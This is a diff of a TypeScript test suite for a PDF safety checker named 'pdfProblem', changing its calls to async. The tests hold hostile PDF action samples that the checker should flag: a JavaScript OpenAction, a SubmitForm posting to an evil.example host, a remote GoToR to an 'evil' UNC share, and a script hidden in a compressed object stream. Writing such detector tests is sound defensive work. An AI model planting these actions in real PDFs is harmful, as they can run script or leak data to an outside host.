@@ -61,14 +61,14 @@ function streamObject(dict: string, body: Buffer): string {
 }
 
 describe('pdfProblem', () => {
-  it('accepts a plain document, a destination OpenAction, URI links and binary streams', () => {
-    expect(pdfProblem(pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.aibeike.com/) >> >>] >>'))).toBeNull();
+  it('accepts a plain document, a destination OpenAction, URI links and binary streams', async () => {
+    expect(await pdfProblem(pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.aibeike.com/) >> >>] >>'))).toBeNull();
     // Compressed page content whose bytes happen to spell "/JS": not a name, not refused.
     const noise = Buffer.concat([Buffer.from([0x78, 0x9c, 0x01]), Buffer.from(' /JS /AA /Launch ', 'latin1'), Buffer.alloc(20, 7)]);
-    expect(pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Filter /FlateDecode', noise)))).toBeNull();
+    expect(await pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Filter /FlateDecode', noise)))).toBeNull();
   });
 
-  it('refuses scripts, automatic actions, launch actions and attachments, also behind #xx escapes', () => {
+  it('refuses scripts, automatic actions, launch actions and attachments, also behind #xx escapes', async () => {
     const cases = [
       '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
       '<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>',
@@ -81,21 +81,21 @@ describe('pdfProblem', () => {
       '<< /S /SubmitForm /F (https://evil.example/) >>',
       '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >>',
     ];
-    for (const dict of cases) expect(pdfProblem(pdfOf(dict)), dict).toBe('active');
+    for (const dict of cases) expect(await pdfProblem(pdfOf(dict)), dict).toBe('active');
   });
 
-  it('finds a script hidden in a compressed object stream', () => {
+  it('finds a script hidden in a compressed object stream', async () => {
     const hidden = deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (app.alert(1)) >>', 'latin1'));
-    expect(pdfProblem(pdfOf('<< /Type /Catalog /OpenAction 5 0 R >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', hidden)))).toBe('active');
+    expect(await pdfProblem(pdfOf('<< /Type /Catalog /OpenAction 5 0 R >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', hidden)))).toBe('active');
     const clean = deflateSync(Buffer.from('5 0 << /Type /Pages /Count 0 >>', 'latin1'));
-    expect(pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', clean)))).toBeNull();
+    expect(await pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', clean)))).toBeNull();
   });
 
-  it('refuses encrypted PDFs and object streams it cannot read', () => {
+  it('refuses encrypted PDFs and object streams it cannot read', async () => {
     const encrypted = Buffer.from(pdfOf('<< /Type /Catalog >>', '<< /Filter /Standard /V 2 >>').toString('latin1').replace('<< /Root 1 0 R >>', '<< /Root 1 0 R /Encrypt 2 0 R >>'), 'latin1');
-    expect(pdfProblem(encrypted)).toBe('encrypted');
-    expect(pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode', Buffer.from('9jqo^BlbD-BleB1DJ+*+F(f,q~>'))))).toBe('unreadable');
-    expect(pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('not zlib at all'))))).toBe('unreadable');
+    expect(await pdfProblem(encrypted)).toBe('encrypted');
+    expect(await pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode', Buffer.from('9jqo^BlbD-BleB1DJ+*+F(f,q~>'))))).toBe('unreadable');
+    expect(await pdfProblem(pdfOf('<< /Type /Catalog >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('not zlib at all'))))).toBe('unreadable');
   });
 });
 
